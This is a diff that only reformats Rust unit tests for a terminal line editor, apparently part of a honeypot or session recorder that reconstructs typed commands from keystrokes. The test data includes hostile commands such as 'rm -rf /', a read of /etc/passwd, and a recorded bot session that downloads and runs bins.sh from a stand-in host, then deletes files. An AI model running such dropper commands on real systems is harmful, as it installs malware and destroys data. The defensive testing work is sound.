@@ -469,7 +469,10 @@ mod tests {
         assert_eq!(typed(b"uanme\x7f\x7f\x7f\x7fname -a\r"), ["uname -a"]);
         assert_eq!(typed(b"rm -rf /\x15echo safe\r"), ["echo safe"]);
         assert_eq!(typed(b"cat /etc/passwd\x17shadow\r"), ["cat shadow"]);
-        assert_eq!(typed(b"echo world\x1b[D\x1b[D\x1b[D\x1b[D\x1b[Dhello \r"), ["echo hello world"]);
+        assert_eq!(
+            typed(b"echo world\x1b[D\x1b[D\x1b[D\x1b[D\x1b[Dhello \r"),
+            ["echo hello world"]
+        );
         assert_eq!(typed(b"ls\x01sudo \x05 -l\r"), ["sudo ls -l"]);
         assert_eq!(typed(b"abc\x1b[H\x1b[3~\x1b[F!\r"), ["bc!"]);
         assert_eq!(typed(b"one two\x1bb\x0b\x19\x19\r"), ["one twotwo"]);
@@ -483,8 +486,18 @@ mod tests {
         assert_eq!(lines(&mut editor, b"uname -a\rid\r"), ["uname -a", "id"]);
         assert_eq!(lines(&mut editor, b"\x1b[A\r"), ["id"]);
         assert_eq!(lines(&mut editor, b"\x1b[A\x1b[A\x1b[A\r"), ["uname -a"]);
-        assert_eq!(lines(&mut editor, b"who\x1b[A\x1b[B\x1b[B\r"), ["who"], "down past the newest restores the line");
-        assert_eq!(lines(&mut editor, b"\x1bOA\x08\x08\x08\x08\x08\x08\x08\x08\x08whoami\r"), ["whoami"]);
+        assert_eq!(
+            lines(&mut editor, b"who\x1b[A\x1b[B\x1b[B\r"),
+            ["who"],
+            "down past the newest restores the line"
+        );
+        assert_eq!(
+            lines(
+                &mut editor,
+                b"\x1bOA\x08\x08\x08\x08\x08\x08\x08\x08\x08whoami\r"
+            ),
+            ["whoami"]
+        );
         assert_eq!(lines(&mut editor, b"\x10\x01sudo \r"), ["sudo whoami"]);
     }
 
@@ -512,7 +525,10 @@ mod tests {
             ["cd /tmp", "wget http://x/a.sh", "sh a.sh"]
         );
         let mut editor = LineEditor::new();
-        assert!(editor.feed(b"\x1b[200~echo a\necho b\x1b[201~").is_empty(), "a paste waits for Enter");
+        assert!(
+            editor.feed(b"\x1b[200~echo a\necho b\x1b[201~").is_empty(),
+            "a paste waits for Enter"
+        );
         assert_eq!(lines(&mut editor, b"\r"), ["echo a", "echo b"]);
         assert_eq!(lines(&mut editor, b"\x1b[A\r"), ["echo b"]);
         assert_eq!(
@@ -530,11 +546,20 @@ mod tests {
     fn recorded_sessions() {
         assert_eq!(
             typed(HUMAN),
-            ["uname -a", "id", "sudo uname -a", "ls /tmp", "cat /etc/os-rel", "exit"]
+            [
+                "uname -a",
+                "id",
+                "sudo uname -a",
+                "ls /tmp",
+                "cat /etc/os-rel",
+                "exit"
+            ]
         );
         assert_eq!(
             typed(BOT),
-            ["cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *"]
+            [
+                "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *"
+            ]
         );
     }
 
